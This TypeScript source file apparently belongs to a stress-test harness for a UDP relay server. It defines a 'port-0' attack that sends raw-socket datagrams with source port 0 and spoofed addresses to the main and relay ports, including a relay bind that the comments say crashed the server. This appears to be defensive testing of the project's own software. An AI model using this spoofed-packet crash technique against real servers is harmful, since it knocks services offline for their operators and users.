/**
 * Datagrams whose UDP source port is 0, through the raw socket. To the main port:
 * every request. To every relay port: junk and binds with made-up tokens. And the one that
 * crashed the server: the attacker's own relay, bound with its real token from source port 0,
 * so the relay's answer (RA) and its forwarding go to port 0.
 */
import { BIGRAMS } from '../../../server/src/generated/protocol.ts';
import type { RunContext } from '../context.ts';
import { sleep } from '../net.ts';
import { type Attack, attacker, attackerRelay, bindRelay, count, every, list, spoofed } from './attack.ts';

const randomToken = () => Array.from({ length: 8 }, () => BIGRAMS[Math.floor(Math.random() * 256)]).join('');

export class PortZero implements Attack {
  readonly name = 'port-0';
  readonly what = 'source port 0 (raw socket) to the main port and every relay port, and a real relay bound from port 0, every 2 s from t=10 s';
  readonly counters = /port_0|bad_port|handler_error|source|send_failed/;
  private readonly sent = new Map<string, number>();
  private note = '';

  async run(ctx: RunContext): Promise<void> {
    if (!ctx.raw) {
      this.note = 'skipped: raw sockets need root';
      return;
    }
    const raw = ctx.raw;
    const pair = await attackerRelay(ctx, attacker(1, 1), attacker(1, 2));
    if (pair) await bindRelay(pair[1]); // The far side is bound properly; the near side binds from port 0.
    else this.note = 'no relay granted to the attacker (its RB from port 0 went to the relay ports blind)';
    // Begin once legitimate flows are under way, so the figures show what a crash takes with it.
    while (ctx.running() && ctx.elapsed() < 10_000) await sleep(200);
    const key = ctx.serverKey;
    const zero = (n: number) => ({ address: spoofed(1, n), port: 0 });
    await every(ctx, 2000, () => {
      const requests = [`HS:${key}`, `RS:${key}`, `JS:${key}:${key}cyahcyah`, `KA:${key}cyahcyah`, `RQ:${key}cyahcyah:${key}`, 'junk\x00'];
      requests.forEach((r, i) => raw.send(zero(i), ctx.main, r));
      count(this.sent, 'main port', requests.length);
      for (const port of ctx.server.relayPorts) {
        raw.send(zero(7), { address: ctx.main.address, port }, `RB:${randomToken()}`);
        raw.send(zero(8), { address: ctx.main.address, port }, '\x00\x01junk');
      }
      count(this.sent, 'relay ports, made-up tokens and junk', ctx.server.relayPorts.length * 2);
      if (pair) {
        raw.send({ address: pair[0].peer.endpoint.address, port: 0 }, pair[0].relay, `RB:${pair[0].token}`);
        count(this.sent, 'own relay, real token');
        // If that bound the side to port 0, forwarding to it is the second path to a crash.
        pair[1].peer.send(pair[1].relay, Buffer.from('\x00forward to port 0'));
      }
    });
  }

  report(): string[] {
    return [this.note || `sent ${list(this.sent)}`];
  }
}
